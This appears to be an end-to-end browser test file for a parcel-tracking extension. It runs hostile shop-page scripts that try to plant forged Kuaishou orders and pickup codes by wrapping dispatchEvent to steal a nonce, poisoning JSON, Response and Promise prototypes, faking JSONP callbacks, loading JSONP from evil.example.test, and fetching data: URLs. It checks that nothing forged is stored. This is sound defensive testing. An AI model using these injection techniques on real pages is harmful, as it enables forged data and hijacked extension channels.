// A hostile shop page in real Chromium: scripts on the platform's own pages (an ad, a seller's widget, an
// XSS) try to plant orders and pickup codes through the MAIN-world hook — by wrapping dispatchEvent to steal
// the channel and its nonce, by overriding JSON.stringify / Response.prototype.clone / .text /
// Promise.prototype.then, by calling a JSONP callback from a script that is never inserted, by a JSONP
// script from another site, by fetching a data: URL — and nothing they forge reaches the database, while
// the page's real list is still read. Browser-parsed bodies with ids beyond 2^53 never merge two orders.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { dbSnapshot, fixture, launch, type Harness } from './harness';
import { URLS } from '../fixtures/demo';
import { kuaishouList } from '../fixtures/kuaishou-big';

const API = URLS.kuaishouApi;
/** What the attacker tries to plant: an order, its parcel and a pickup code that never existed. */
const PLANTED = {
  result: 1,
  data: {
    orderList: [
      {
        oid: '2499000011112222',
        sellerName: '假店铺',
        orderStatusDesc: '待收货',
        createTime: 1732241100000,
        itemInfo: { itemTitle: '伪造商品', itemCount: 1 },
        expressInfo: { expressCompanyName: '圆通速递', expressNo: 'YT9999999999991', traceList: [{ time: 1732330800000, desc: '您的快件已到站，请凭取件码 8-8-8888 取件' }] },
      },
    ],
  },
};
const PLANTED_TEXT = JSON.stringify(PLANTED);

const captureDetail = (nonce: string) => ({ nonce, kind: 'fetch', url: API, status: 200, body: PLANTED_TEXT, truncated: false, size: PLANTED_TEXT.length, parsed: false, lostIntegers: 0 });

/** A Kuaishou order-list page whose own script runs `attack`, then loads the real list by fetch. */
const page = (attack: string) => `<!doctype html><html><head><meta charset="utf-8"><title>我的订单</title></head><body><div id="root">加载中…</div>
<script>
const API = ${JSON.stringify(API)};
const PLANTED = ${PLANTED_TEXT};
const PLANTED_TEXT = JSON.stringify(PLANTED);
const DETAIL = (nonce) => JSON.stringify(Object.assign(${JSON.stringify(captureDetail(''))}, { nonce }));
const done = (what) => { document.getElementById('root').textContent = 'done: ' + what; };
(async () => {
${attack}
})().catch((e) => done('threw ' + e));
</script></body></html>`;

const ATTACKS: Record<string, string> = {
  // Wrap dispatchEvent (and CustomEvent, JSON.stringify) to catch the hook's channel and nonce, then replay.
  'dispatchEvent wrapper': `
  let stolen = null;
  const dispatch = EventTarget.prototype.dispatchEvent;
  EventTarget.prototype.dispatchEvent = function (ev) {
    try { if (ev.type === 'parcelhub:capture' && !stolen) stolen = { target: this, nonce: JSON.parse(ev.detail).nonce }; } catch (e) {}
    return dispatch.call(this, ev);
  };
  const stringify = JSON.stringify;
  JSON.stringify = function (v, ...rest) { if (v && typeof v === 'object' && typeof v.nonce === 'string' && !stolen) stolen = { nonce: v.nonce }; return stringify.call(JSON, v, ...rest); };
  const CE = window.CustomEvent;
  window.CustomEvent = function (type, init) { const e = new CE(type, init); return e; };
  window.CustomEvent.prototype = CE.prototype;
  await (await fetch(API)).text();
  await new Promise((r) => setTimeout(r, 300));
  JSON.stringify = stringify;
  if (stolen && stolen.target) dispatch.call(stolen.target, new CE('parcelhub:capture', { detail: DETAIL(stolen.nonce) }));
  done(stolen ? 'stolen' : 'nothing stolen');`,
  // A script element never inserted names callback=x; the page then calls x itself.
  'never-inserted JSONP script': `
  window.x = function () {};
  const s = document.createElement('script');
  s.src = API + '?type=jsonp&callback=x';
  window.x(PLANTED);
  const s2 = document.createElement('script');
  s2.setAttribute('src', API + '?callback=y');
  window.y = function () {};
  window.y(PLANTED);
  await (await fetch(API)).text();
  done('called');`,
  // A JSONP script that really runs, but from another site.
  'JSONP from another site': `
  window.z = function () {};
  await new Promise((resolve) => { const s = document.createElement('script'); s.src = 'https://evil.example.test/rest/order/list?callback=z'; s.onload = s.onerror = resolve; document.head.appendChild(s); });
  await (await fetch(API)).text();
  done('loaded');`,
  // Overrides of the Response methods and Promise.prototype.then the hook would read the body with.
  'Response.prototype.clone / text / then overrides': `
  const planted = () => new Response(PLANTED_TEXT, { status: 200 });
  Response.prototype.clone = function () { return planted(); };
  const text = Response.prototype.text;
  Response.prototype.text = function () { return text.call(planted()); };
  const then = Promise.prototype.then;
  Promise.prototype.then = function (ok, bad) { return then.call(this, ok && ((v) => ok(typeof v === 'string' && v.includes('orderList') ? PLANTED_TEXT : v)), bad); };
  await (await fetch(API)).text();
  await new Promise((r) => setTimeout(r, 300));
  Promise.prototype.then = then;
  done('overridden');`,
  // A data: URL whose text looks like an order list.
  'data: URL fetch': `
  await (await fetch('data:application/json,' + encodeURIComponent(PLANTED_TEXT) + '#/rest/app/grocery/order/list')).text();
  await (await fetch(API)).text();
  done('fetched');`,
};

let h: Harness;
beforeAll(async () => {
  h = await launch();
  h.serve(API, { body: fixture('kuaishou/order-list-page1.json'), contentType: 'application/json' });
  h.serve((u) => u.hostname === 'evil.example.test', { body: `z(${PLANTED_TEXT});`, contentType: 'application/javascript' });
});
afterAll(async () => {
  expect(await h.errors()).toEqual([]);
  await h.close();
});

const clear = () =>
  h.sw(async () => {
    const db = (globalThis as unknown as { __parcelHub: { getDb(): Record<string, { clear(): Promise<void> }> } }).__parcelHub.getDb();
    await Promise.all([db.orders.clear(), db.parcels.clear(), db.events.clear(), db.diagnostics.clear()]);
  });

describe('a hostile page cannot plant parcels', () => {
  for (const [name, attack] of Object.entries(ATTACKS)) {
    it(`${name}: nothing forged is stored, the real list is`, async () => {
      await clear();
      const url = `${URLS.kuaishouList}?case=${encodeURIComponent(name)}`;
      h.serve((u) => u.href === url, { body: page(attack) });
      const p = await h.openShopPage(url);
      await p.waitForFunction(() => document.getElementById('root')?.textContent?.startsWith('done'), undefined, { timeout: 20_000 });
      const outcome = await p.evaluate(() => document.getElementById('root')!.textContent);
      // The real list (8 orders) arrives after the forgery; once it is stored, the forgery had its chance.
      const snap = await h.waitFor(() => dbSnapshot(h), (s) => s.orders.length >= 8);
      await new Promise((r) => setTimeout(r, 500));
      const after = await dbSnapshot(h);
      expect(outcome).not.toMatch(/threw/);
      if (name === 'dispatchEvent wrapper') expect(outcome).toBe('done: nothing stolen');
      expect(after.orders.map((o) => o.orderId)).not.toContain('2499000011112222');
      expect(after.parcels.map((x) => x.trackingNo)).not.toContain('YT9999999999991');
      expect(after.parcels.map((x) => x.pickupCode).filter(Boolean)).not.toContain('8-8-8888');
      expect(after.orders.length).toBe(snap.orders.length);
      if (name === 'JSONP from another site') {
        expect(after.diagnostics.map((d) => d.message).join('\n')).toMatch(/capture dropped: response from evil\.example\.test/);
      }
      await p.close();
    });
  }
});

describe('ids beyond 2^53 in a browser-parsed body', () => {
  it('XHR responseType json: two orders whose ids round to the same number are not merged', async () => {
    await clear();
    // 2411221234567890123 and …124 are the same double; as text they are two orders.
    const body = `{"result":1,"data":{"orderList":[
      {"oid":2411221234567890123,"sellerName":"甲店","orderStatusDesc":"待收货","expressInfo":{"expressCompanyName":"圆通速递","expressNo":"YT8100000000001"}},
      {"oid":2411221234567890124,"sellerName":"乙店","orderStatusDesc":"待收货","expressInfo":{"expressCompanyName":"圆通速递","expressNo":"YT8100000000002"}}]}}`;
    const bigApi = 'https://app.kwaixiaodian.com/rest/app/grocery/order/list2';
    h.serve((u) => u.href.startsWith(bigApi), { body, contentType: 'application/json' });
    const pageUrl = `${URLS.kuaishouList}?case=bigids`;
    h.serve((u) => u.href === pageUrl, {
      body: `<!doctype html><meta charset="utf-8"><div id="root"></div><script>
        const x = new XMLHttpRequest(); x.open('GET', ${JSON.stringify(`${bigApi}?via=xhr`)}); x.responseType = 'json';
        x.onload = () => fetch(${JSON.stringify(`${bigApi}?via=fetch`)}).then((r) => r.text()).then(() => { document.getElementById('root').textContent = 'done'; });
        x.send();</script>`,
    });
    const p = await h.openShopPage(pageUrl);
    await p.waitForFunction(() => document.getElementById('root')?.textContent === 'done');
    // The fetched text keeps every digit: two orders, one parcel each.
    const snap = await h.waitFor(() => dbSnapshot(h), (s) => s.orders.length >= 2 && s.diagnostics.some((d) => /2\^53/.test(d.message)));
    await new Promise((r) => setTimeout(r, 500));
    const after = await dbSnapshot(h);
    expect(after.orders.map((o) => o.orderId).sort()).toEqual(['2411221234567890123', '2411221234567890124']);
    for (const o of after.orders) expect(o.parcelKeys).toHaveLength(1);
    expect(after.parcels.every((x) => x.orderKeys.length === 1)).toBe(true);
    expect(snap.diagnostics.find((d) => /2\^53/.test(d.message))?.kind).toBe('partial');
    await p.close();
  });
});

describe('pages that are not about orders capture nothing', () => {
  const cases = [
    { name: 'a Taobao shop home page', page: 'https://shop123456.taobao.com/', api: 'https://h5api.m.taobao.com/h5/mtop.taobao.order.queryboughtlistv2/1.0/?type=json', body: () => fixture('taobao/mtop-boughtlist-main.json') },
    { name: 'a Douyin video page', page: 'https://www.douyin.com/video/7311111111111111111', api: 'https://www.douyin.com/aweme/v1/web/order/list', body: () => fixture('douyin/order-list-page1.json') },
    { name: 'a Kuaishou live page', page: 'https://live.kuaishou.com/u/3xabcdef', api: 'https://live.kuaishou.com/rest/app/grocery/order/list', body: () => fixture('kuaishou/order-list-page1.json') },
  ];
  for (const c of cases) {
    it(`${c.name} loading an order answer stores nothing`, async () => {
      await clear();
      h.serve((u) => u.href === c.api, { body: c.body(), contentType: 'application/json' });
      h.serve((u) => u.href === c.page, {
        body: `<!doctype html><meta charset="utf-8"><div id="root"></div><script>fetch(${JSON.stringify(c.api)}).then((r) => r.text()).then((t) => { document.getElementById('root').textContent = 'done ' + t.length; });</script>`,
      });
      const p = await h.openShopPage(c.page);
      await p.waitForFunction(() => document.getElementById('root')?.textContent?.startsWith('done'));
      await new Promise((r) => setTimeout(r, 2500));
      const snap = await dbSnapshot(h);
      expect(h.requests.some((r) => r.url === c.api)).toBe(true);
      expect(snap.orders).toEqual([]);
      expect(snap.parcels).toEqual([]);
      await p.close();
    });
  }
});

describe('caps report themselves', () => {
  it('a 30 MB response is not read, and says so in parser health', async () => {
    await clear();
    const api = 'https://app.kwaixiaodian.com/rest/app/grocery/order/huge';
    const body = kuaishouList(50_000);
    expect(body.length).toBeGreaterThan(25_000_000);
    h.serve((u) => u.href === api, { body, contentType: 'application/json' });
    const pageUrl = `${URLS.kuaishouList}?case=huge`;
    h.serve((u) => u.href === pageUrl, { body: `<!doctype html><meta charset="utf-8"><script>fetch(${JSON.stringify(api)}).then((r) => r.text());</script>` });
    const p = await h.openShopPage(pageUrl);
    const snap = await h.waitFor(() => dbSnapshot(h), (s) => s.diagnostics.some((d) => /capture cap/.test(d.message)), 60_000);
    expect(snap.diagnostics.find((d) => /capture cap/.test(d.message))).toMatchObject({ kind: 'partial' });
    expect(snap.orders).toEqual([]);
    await p.close();
    const options = await h.openOptions();
    await options.getByTestId('tab-health').click();
    await expect.poll(() => options.getByTestId('health').textContent(), { timeout: 10_000 }).toMatch(/over the 12\.0 M capture cap/);
    await options.close();
  }, 120_000);
});
